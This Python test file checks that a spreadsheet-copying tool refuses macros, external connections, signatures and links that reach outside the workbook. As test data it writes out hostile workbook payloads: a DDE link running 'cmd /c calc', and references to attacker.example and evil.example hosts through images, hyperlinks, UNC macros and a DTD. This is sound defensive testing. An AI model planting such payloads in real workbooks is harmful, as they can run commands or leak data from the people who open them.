"""Changing a workbook part by part: what a copy cannot carry is refused, what it carries reaches nowhere outside."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.table import Table

from appraisal.options.schema import SCHEMA
from appraisal.options.workbook import examine
from appraisal.workbook import InputFaults
from appraisal.workbook.book import cell_position
from appraisal.workbook.copies.copying import changed_copy
from appraisal.workbook.file.read import workbook_grids
from appraisal.workbook.patching.patch import Patch
from appraisal.workbook.patching.stale import Area, Names, stale_results
from appraisal.workbook.reading.grids import Grid
from appraisal.workbook.writing.pages import Formula
from tests.workbook.builders import ChangePart, grids_of, in_part, repacked, small_book, write_grids, written
from tests.workbook.habits import with_habits
from tests.workbook.hostile import HOSTILE
from tests.workbook.kept import lost
from tests.workbook.ours import add_sheets, change, pages_of, write_marked
from tests.workbook.schemas import unsound

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

WRITERS: tuple[Callable[[Path, Path], object], ...] = (
    lambda source, out: add_sheets(source, ["gates"], out, columns=True),
    write_marked,
    lambda source, out: change(source, {"trust": "charity"}, ("rota",), out),
)


def with_relation(part: str, kind: str, target: str, mode: str = "External") -> ChangePart:
    """Return a change that adds a relation to a list of relations."""
    line = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return in_part(part, b"</Relationships>", line.encode())


def with_type(part: str, kind: str) -> ChangePart:
    line = f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'
    return in_part("[Content_Types].xml", b"</Types>", line.encode())


def both(*changes: ChangePart) -> ChangePart:
    """Return several changes as one."""

    def change_part(name: str, content: bytes) -> bytes | None:
        for each in changes:
            content = each(name, content) or b""
        return content

    return change_part


ALIVE: tuple[tuple[str, ChangePart, tuple[tuple[str, bytes], ...], str], ...] = (
    (
        "macros",
        with_type("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
        (("xl/vbaProject.bin", b"x" * 9),),
        "it has macros, and a copy with them is not made",
    ),
    (
        "connections",
        with_type("xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"),
        (("xl/connections.xml", b"<connections/>"),),
        "it has connections to data outside it",
    ),
    ("controls", lambda _, content: content, (("xl/activeX/activeX1.bin", b"x"),), "it has ActiveX controls"),
    ("signature", lambda _, content: content, (("_xmlsignatures/sig1.xml", b"<a/>"),), "it has a digital signature"),
    (
        "linked picture",
        lambda _, content: content,
        (
            (
                "xl/drawings/_rels/drawing9.xml.rels",
                f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/image" '
                'Target="http://attacker.example/x.png" TargetMode="External"/></Relationships>'.encode(),
            ),
        ),
        "takes from a file outside it",
    ),
    (
        "rule",
        in_part(
            "xl/worksheets/sheet2.xml",
            b"</sheetData>",
            b'</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
            b"<formula>'[other.xlsx]S'!A1=1</formula></cfRule></conditionalFormatting>",
        ),
        (),
        "a rule, a drop-down or a chart of",
    ),
)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("change_part", "extra", "said"), [case[1:] for case in ALIVE], ids=[case[0] for case in ALIVE]
)
@pytest.mark.parametrize("write", WRITERS)
def test_what_a_copy_could_only_carry_alive_is_refused_before_anything_is_written(
    write: Callable[[Path, Path], object],
    change_part: ChangePart,
    extra: tuple[tuple[str, bytes], ...],
    said: str,
    tmp_path: Path,
) -> None:
    good = write_grids(grids_of(small_book()), tmp_path / "good.xlsx")
    source = repacked(good, tmp_path / "mine.xlsx", change_part, extra)
    assert examine(source).faults == ()  # it may be read all the same
    with pytest.raises(InputFaults) as refused:
        write(source, tmp_path / "copy.xlsx")
    assert said in str(refused.value)
    assert not (tmp_path / "copy.xlsx").exists()


LINK = (
    f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><externalBook r:id="rId1"><sheetNames><sheetName val="Rates"/>'
    '</sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>1.03</v></cell></row></sheetData>'
    "</sheetDataSet></externalBook></externalLink>"
).encode()
DDE = (
    f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" '
    'advise="1"/></ddeItems></ddeLink></externalLink>'
).encode()


def linked(tmp_path: Path, link: bytes = LINK) -> Path:
    """Return a workbook with a link to another file, from which a cell and a name take."""
    grids = grids_of(small_book()) | {
        "Workings": [["Uplift", ("=[1]Rates!$A$1", 1.03)], ["Twice", ("=Uplift*2", 2.06)]]
    }
    good = write_grids(grids, tmp_path / "good.xlsx")
    listed = (
        b'</sheets><externalReferences><externalReference r:id="rIdL"/></externalReferences><definedNames>'
        b'<definedName name="Uplift">[1]Rates!$A$1</definedName></definedNames>'
    )
    relation = f'<Relationship Id="rIdL" Type="{OFFICE}/externalLink" Target="externalLinks/externalLink1.xml"/>'
    target = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Type="{OFFICE}/externalLinkPath" '
        'Target="file:///S:\\Finance\\rates%202026.xlsx" TargetMode="External"/></Relationships>'
    )
    change_parts = both(
        in_part("xl/workbook.xml", b"</sheets>", listed),
        in_part("xl/_rels/workbook.xml.rels", b"</Relationships>", f"{relation}</Relationships>".encode()),
        with_type(
            "xl/externalLinks/externalLink1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        ),
    )
    extra = (
        ("xl/externalLinks/externalLink1.xml", link),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", target.encode()),
    )
    return repacked(good, tmp_path / "mine.xlsx", change_parts, extra)


@pytest.mark.slow
@pytest.mark.parametrize("link", [LINK, DDE], ids=["workbook", "DDE"])
@pytest.mark.parametrize("write", WRITERS)
def test_a_link_to_another_file_gives_way_to_what_it_came_to_and_is_noted_at_its_cells(
    write: Callable[[Path, Path], object], link: bytes, tmp_path: Path
) -> None:
    source = linked(tmp_path, link)
    write(source, tmp_path / "copy.xlsx")
    with zipfile.ZipFile(tmp_path / "copy.xlsx") as archive:
        told = {name: archive.read(name) for name in archive.namelist()}
    assert not [name for name in told if "externalLink" in name]
    assert not [name for name, content in told.items() if b'"External"' in content or b"externalReference" in content]
    copy = openpyxl.load_workbook(tmp_path / "copy.xlsx")
    assert [cell.value for cell in copy["Workings"]["B"]] == [1.03, 2.06]
    assert "[rates 2026.xlsx]Rates!$A$1" in copy["Workings"]["B1"].comment.text
    assert copy.defined_names["Uplift"].attr_text == '"[rates 2026.xlsx]Rates!$A$1"'
    assert unsound(tmp_path / "copy.xlsx") == []


def test_links_to_pages_stay_and_links_to_files_become_notes(tmp_path: Path) -> None:
    source = tmp_path / "mine.xlsx"
    write_grids(grids_of(small_book()), source)
    book = openpyxl.load_workbook(source)
    workings = book.create_sheet("Workings")
    targets = ("https://council.example/paper.pdf", "mailto:a@council.example", "file://attacker.example/share/x.exe")
    for row, target in enumerate(targets, 1):
        workings.cell(row, 1).value = "the paper"
        workings.cell(row, 1).hyperlink = target
    workings["A4"].hyperlink = Hyperlink(ref="A4", location="Costs!A1")
    book.save(source)
    for write in WRITERS:
        (tmp_path / "copy.xlsx").unlink(missing_ok=True)
        write(source, tmp_path / "copy.xlsx")
        copy = openpyxl.load_workbook(tmp_path / "copy.xlsx")["Workings"]
        assert [link.target for row in (1, 2) if (link := copy.cell(row, 1).hyperlink)] == list(targets[:2])
        assert copy["A3"].hyperlink is None
        assert copy["A3"].value == "the paper"
        assert targets[2] in copy["A3"].comment.text
        assert copy["A4"].hyperlink is not None
        assert copy["A4"].hyperlink.location == "Costs!A1"
        assert unsound(tmp_path / "copy.xlsx") == []


@pytest.mark.slow
def test_a_workbook_in_the_strict_form_stays_in_it_whole(tmp_path: Path) -> None:
    strict = {
        MAIN: "http://purl.oclc.org/ooxml/spreadsheetml/main",
        OFFICE: "http://purl.oclc.org/ooxml/officeDocument/relationships",
    }

    def change_part(name: str, content: bytes) -> bytes:
        for ours, theirs in strict.items() if name.endswith((".xml", ".rels")) else ():
            content = content.replace(ours.encode(), theirs.encode())
        return content

    source = repacked(written(small_book(), tmp_path / "good.xlsx"), tmp_path / "mine.xlsx", change_part)
    for write in WRITERS:
        (tmp_path / "copy.xlsx").unlink(missing_ok=True)
        write(source, tmp_path / "copy.xlsx")
        with zipfile.ZipFile(tmp_path / "copy.xlsx") as archive:
            parts = [archive.read(name) for name in archive.namelist() if name.endswith((".xml", ".rels"))]
        assert not [part for part in parts if MAIN.encode() in part or OFFICE.encode() in part]
        titles = [grid.name for grid in workbook_grids(source)]
        assert [grid.name for grid in workbook_grids(tmp_path / "copy.xlsx") if grid.name in titles] == titles
        assert examine(tmp_path / "copy.xlsx").faults == ()


def test_of_a_formula_filled_down_the_others_stay_when_the_first_gives_way(tmp_path: Path) -> None:
    grids = grids_of(small_book()) | {"Workings": [[1.0, ("=A1*2", 2.0)], [2.0, ("=A2*2", 4.0)], [3.0, ("=A3*2", 6.0)]]}
    typed = write_grids(grids, tmp_path / "typed.xlsx")
    part = "xl/worksheets/sheet{}.xml".format(list(grids).index("Workings") + 1)

    def filled_down(name: str, content: bytes) -> bytes:
        if name != part:
            return content
        first = re.sub(
            rb"<f>A1\*2</f>", b'<f t="shared" ref="B1:B3" si="0">WEBSERVICE("http://a.example/"&amp;A1)</f>', content
        )
        return re.sub(rb"<f>A[23]\*2</f>", b'<f t="shared" si="0"/>', first)

    source = repacked(typed, tmp_path / "mine.xlsx", filled_down)
    add_sheets(source, ["gates"], tmp_path / "copy.xlsx")
    grid = next(grid for grid in workbook_grids(tmp_path / "copy.xlsx") if grid.name == "Workings")
    assert [row[1] for row in grid.rows] == [2.0, 4.0, 6.0]
    assert dict(grid.formulas) == {}
    assert unsound(tmp_path / "copy.xlsx") == []


def test_a_workbook_made_with_charts_pictures_tables_and_rules_loses_nothing_in_any_copy(tmp_path: Path) -> None:
    source = busy(tmp_path / "mine.xlsx", tmp_path)
    for write in WRITERS[:2]:
        (tmp_path / "copy.xlsx").unlink(missing_ok=True)
        write(source, tmp_path / "copy.xlsx")
        assert [line for line in lost(source, tmp_path / "copy.xlsx") if "FFFFE08A" not in line] == []
        assert set(unsound(tmp_path / "copy.xlsx")) <= set(unsound(source))


def busy(path: Path, folder: Path) -> Path:
    """Write the small book with sheets of the officer's own on which nearly everything is that a workbook can have."""
    picture = folder / "logo.png"
    picture.write_bytes(
        bytes.fromhex(
            "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001"
            "a5f645400000000049454e44ae426082"
        )
    )
    book = xlsxwriter.Workbook(path)
    red, money = book.add_format({"bg_color": "#FF0000", "italic": True}), book.add_format({"num_format": "£#,##0.00"})
    for name, rows in grids_of(small_book()).items():
        sheet = book.add_worksheet(name)
        for row, cells in enumerate(rows):
            for column, value in enumerate(cells):
                sheet.write(row, column, value, money if isinstance(value, float) else None)
        sheet.write_comment("B2", "Ask Ann.", {"author": "Bea"})
        sheet.set_column("B:B", 33, red)
        sheet.set_row(1, 40, None, {"level": 1})
    own = book.add_worksheet("Workings")
    own.write_rich_string("A1", "plain ", red, "red", " plain")
    own.write_array_formula("C1:C3", "{=A2:A4*2}")
    own.write_dynamic_array_formula("E1", "=_xlfn.UNIQUE(Costs!A2:A9)")
    own.add_table("G1:H4", {"columns": [{"header": "Year"}, {"header": "Cost"}]})
    own.insert_image("J1", str(picture))
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "=Costs!$F$2:$F$4", "categories": "=Costs!$B$2:$B$4"})
    own.insert_chart("J9", chart)
    own.conditional_format("A1:A9", {"type": "data_bar", "data_bar_2010": True})
    own.conditional_format("B1:B9", {"type": "icon_set", "icon_style": "3_arrows"})
    own.data_validation("K1", {"validate": "list", "source": "=Options!$A$2:$A$9"})
    own.add_sparkline("L1", {"range": "Costs!F2:F4"})
    own.insert_textbox("M1", "To do")
    own.set_header('&L&"Arial"Draft&R&D')
    own.print_area("A1:F20")
    own.set_h_pagebreaks([10])
    own.merge_range("A20:C20", "together", red)
    own.freeze_panes(2, 1)
    own.outline_settings(True, False, True, False)
    sheet = book.add_chartsheet("Picture of costs")
    other = book.add_chart({"type": "bar"})
    other.add_series({"values": "=Costs!$F$2:$F$4"})
    sheet.set_chart(other)
    hidden = book.add_worksheet("Lists")
    hidden.write("A1", "x")
    hidden.very_hidden()
    book.define_name("Our_total", "=SUM(Costs!$F$2:$F$9)")
    book.define_name("Workings!Local", "=Workings!$A$1")
    book.set_custom_property("Ward", "North")
    book.set_properties({"title": "Our vans", "author": "Strategy"})
    book.close()
    return path


def test_a_table_of_the_officers_own_goes_on_naming_its_columns_as_their_headings_do(tmp_path: Path) -> None:
    grids = grids_of(small_book())
    del grids["Scores"]
    for row in grids["Criteria"]:
        beside = ["Score: bau", "Why: bau", "Score: trust", "Why: trust"]
        row += beside if row[0] == "Code" else [40.0, "As today.", 60.0, "Better."] if row[0] == "reach" else [None] * 4
    source = write_grids(grids, tmp_path / "plain.xlsx")
    book = openpyxl.load_workbook(source)
    criteria = book["Criteria"]
    table = Table(displayName="Ours", ref=f"A1:{criteria.cell(5, criteria.max_column).coordinate}")
    criteria.add_table(table)
    book.save(tmp_path / "mine.xlsx")
    assert unsound(tmp_path / "mine.xlsx") == []
    change(tmp_path / "mine.xlsx", {"bau": "as-now"}, ("trust",), tmp_path / "copy.xlsx")
    assert unsound(tmp_path / "copy.xlsx") == []
    columns = openpyxl.load_workbook(tmp_path / "copy.xlsx")["Criteria"].tables["Ours"].column_names
    assert columns[-4:] == ["Score: as-now", "Why: as-now", "Column1", "Column2"]


TAKEN: tuple[tuple[str, set[str]], ...] = (
    ("=A1", {"A1"}),
    ("=SUM($A$1:B2)*2", {"A1", "B2"}),
    ("=Sheet2!A1+1", set()),
    ("='Our sheet'!A1", {"A1"}),
    ("=SUM(A:A)", {"A1", "A9"}),
    ("=SUM(2:3)", {"B2"}),
    ("=Rate*2", {"B2"}),
    ("=Twice", {"B2"}),
    ("=SUM(Prices[Cost])", {"A9"}),
    ('=IF("A1"="x",1,2)', set()),
    ("=LOG10(5)+ATAN2(1,2)", set()),
    ('=INDIRECT("A"&1)', {"A1", "B2", "A9"}),
    ("=SUM(A1:INDEX(B:B,3))", {"A1", "B2", "A9"}),
    ("={A1:A2*2}", {"A1"}),
    ("=SUM('Jan:Mar'!B5)", {"A1", "B2", "A9"}),
    ("=a1", {"A1"}),
)


@pytest.mark.parametrize(("formula", "cells"), TAKEN, ids=[formula for formula, _ in TAKEN])
def test_a_formula_is_stale_when_what_it_is_worked_out_from_has_changed(formula: str, cells: set[str]) -> None:
    own = Grid("Our sheet", [], formulas={(20, 5): formula})
    names = Names({"rate": ["'Our sheet'!$B$2"], "twice": ["Rate*2"]}, {"prices": Area("our sheet", 8, 0, 9, 1)})
    found = {cell for cell in ("A1", "B2", "A9") if stale_results([own], names, [("Our sheet", cell_position(cell))])}
    assert found == cells


def test_filters_and_tables_reach_over_the_columns_and_rows_that_are_added(tmp_path: Path) -> None:
    grids = grids_of(small_book())
    source = write_grids(grids, tmp_path / "plain.xlsx")
    book = openpyxl.load_workbook(source)
    scores, costs = book["Scores"], book["Costs"]
    scores.add_table(Table(displayName="Ours", ref=f"A1:{scores.cell(4, scores.max_column).coordinate}"))
    costs.delete_cols(costs.max_column)  # a column that is then added
    costs.auto_filter.ref = f"A1:{costs.cell(4, costs.max_column).coordinate}"
    book["Options"]["A5"], book["Options"]["B5"], book["Options"]["C5"] = "mutual", "A mutual", "Mutual"
    book.save(tmp_path / "mine.xlsx")
    add_sheets(tmp_path / "mine.xlsx", ["scores"], tmp_path / "copy.xlsx", columns=True)
    copy = openpyxl.load_workbook(tmp_path / "copy.xlsx")
    table = copy["Scores"].tables["Ours"]
    assert table.ref == f"A1:{copy['Scores'].cell(5, copy['Scores'].max_column).coordinate}"
    assert table.column_names == [cell.value for cell in copy["Scores"][1]]
    assert copy["Scores"]["A5"].value == "mutual"
    assert copy["Costs"].auto_filter.ref == f"A1:{copy['Costs'].cell(4, copy['Costs'].max_column).coordinate}"
    assert unsound(tmp_path / "copy.xlsx") == []


ANYTHING = st.one_of(
    st.none(),
    st.text(min_size=1, max_size=40),
    st.sampled_from(list(HOSTILE.values())),
    st.booleans(),
    st.integers(-(10**15), 10**15),
    st.floats(allow_nan=False, allow_infinity=False),
    st.dates(dt.date(1900, 3, 1), dt.date(2200, 1, 1)),
)


@pytest.mark.slow
@settings(max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.dictionaries(st.tuples(st.integers(1, 40), st.integers(0, 40)), ANYTHING, min_size=1, max_size=12))
def test_what_is_to_stand_in_a_cell_stands_there_and_nothing_else_is_different(
    tmp_path: Path, cells: dict[tuple[int, int], Any]
) -> None:
    source = tmp_path / "mine.xlsx"
    if not source.exists():
        written(small_book(), source)
    grids = workbook_grids(source)
    before = pages_of(source)
    contents = {**before[1].contents, **cells}
    page = replace(before[1], contents={p: c for p, c in contents.items() if c is not None})
    content, _ = changed_copy(source, grids, Patch(before, (before[0], page, *before[2:]), SCHEMA))
    (tmp_path / "copy.xlsx").write_bytes(content)
    after = pages_of(tmp_path / "copy.xlsx")
    wanted = {p: _as_read(c) for p, c in page.contents.items()}
    assert {p: c for p, c in after[1].contents.items() if not isinstance(c, Formula)} == {
        p: c for p, c in wanted.items() if not isinstance(c, Formula)
    }
    assert [p.contents for p in (after[0], *after[2:])] == [p.contents for p in (before[0], *before[2:])]
    assert unsound(content) == []


def _as_read(content: Any) -> Any:
    """Return what a page has of a cell with this content: half a character is the sign for a lost one."""
    if isinstance(content, str):
        return content.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    if isinstance(content, dt.date):
        return dt.datetime.combine(content, dt.time())
    return content


def test_a_formula_on_a_cell_with_a_conversation_is_refused_where_it_reaches_outside(tmp_path: Path) -> None:
    made = with_habits(written(small_book(), tmp_path / "plain.xlsx"), tmp_path / "talk.xlsx", ["conversation"])
    with zipfile.ZipFile(made) as archive:
        owner = next(n for n in archive.namelist() if n.endswith(".rels") and b"threadedComment" in archive.read(n))
        threads = next(name for name in archive.namelist() if "threadedComments/" in name)
        (cell, *_) = re.findall(r' ref="([A-Z]+[0-9]+)"', archive.read(threads).decode())
    sheet = owner.replace("_rels/", "").removesuffix(".rels")

    def reaching(name: str, content: bytes) -> bytes:
        formula = f"<c r=\"{cell}\"><f>'[other.xlsx]Rates'!A1</f><v>2</v></c>".encode()
        return (
            re.sub(rf'<c [^>]*r="{cell}"(?:[^>]*/>|.*?</c>)'.encode(), formula, content) if name == sheet else content
        )

    source = repacked(made, tmp_path / "mine.xlsx", reaching)
    with pytest.raises(InputFaults, match="has a conversation"):
        add_sheets(source, ["gates"], tmp_path / "copy.xlsx")


ELSEWHERE: tuple[tuple[str, str, bytes], ...] = (
    ("a picture", "xl/drawings/drawing9.xml", rb"""<a macro="'\\evil\x.xlsm'!Run"/>"""),
    ("a pivot table", "xl/pivotCache/pivotCacheDefinition1.xml", rb"""<a sheet="\\evil\[x.xlsx]S"/>"""),
    ("a menu", "customUI/customUI.xml", rb"""<a onLoad="'\\evil\x.xlsm'!Go"/>"""),
    ("a box", "xl/drawings/vmlDrawing9.vml", b'<a href="file://evil/x"/>'),
    ("properties", "docProps/custom.xml", b'<!DOCTYPE c SYSTEM "http://evil.example/x.dtd"><c/>'),
    (
        "macros under another name",
        "xl/_rels/other.xml.rels",
        b'<Relationships><Relationship Id="a" Type="x/vbaProject" Target="x.dat"/></Relationships>',
    ),
)


@pytest.mark.parametrize(("part", "content"), [case[1:] for case in ELSEWHERE], ids=[case[0] for case in ELSEWHERE])
def test_a_part_beside_the_cells_that_leads_outside_is_refused(part: str, content: bytes, tmp_path: Path) -> None:
    good = write_grids(grids_of(small_book()), tmp_path / "good.xlsx")
    source = repacked(good, tmp_path / "mine.xlsx", lambda _, whole: whole, ((part, content),))
    with pytest.raises(InputFaults, match=r"leads outside|document type|has macros"):
        add_sheets(source, ["gates"], tmp_path / "copy.xlsx")
    assert not (tmp_path / "copy.xlsx").exists()


@pytest.mark.slow
def test_a_forged_mark_over_whole_columns_takes_no_time(tmp_path: Path) -> None:
    good = write_grids(grids_of(small_book()), tmp_path / "good.xlsx")
    areas = " ".join(["A1:A1048576"] * 800)
    rule = (
        f'</sheetData><conditionalFormatting sqref="{areas}"><cfRule type="expression" priority="1">'
        '<formula>N("options-appraisal-check")=0</formula></cfRule></conditionalFormatting>'
    )
    source = repacked(good, tmp_path / "mine.xlsx", in_part("xl/worksheets/sheet2.xml", b"</sheetData>", rule.encode()))
    write_marked(source, tmp_path / "marked.xlsx")
    assert unsound(tmp_path / "marked.xlsx") == []


def test_a_sheet_with_a_name_that_excel_does_not_take_is_to_be_renamed_first(tmp_path: Path) -> None:
    grids = grids_of(small_book())
    source = write_grids(grids, tmp_path / "plain.xlsx")
    long = b'name="Cost lines of the service over the whole period"'
    source = repacked(source, tmp_path / "mine.xlsx", in_part("xl/workbook.xml", b'name="Costs"', long))
    with pytest.raises(InputFaults, match="has a name that Excel does not take"):
        write_marked(source, tmp_path / "copy.xlsx")
    assert not (tmp_path / "copy.xlsx").exists()
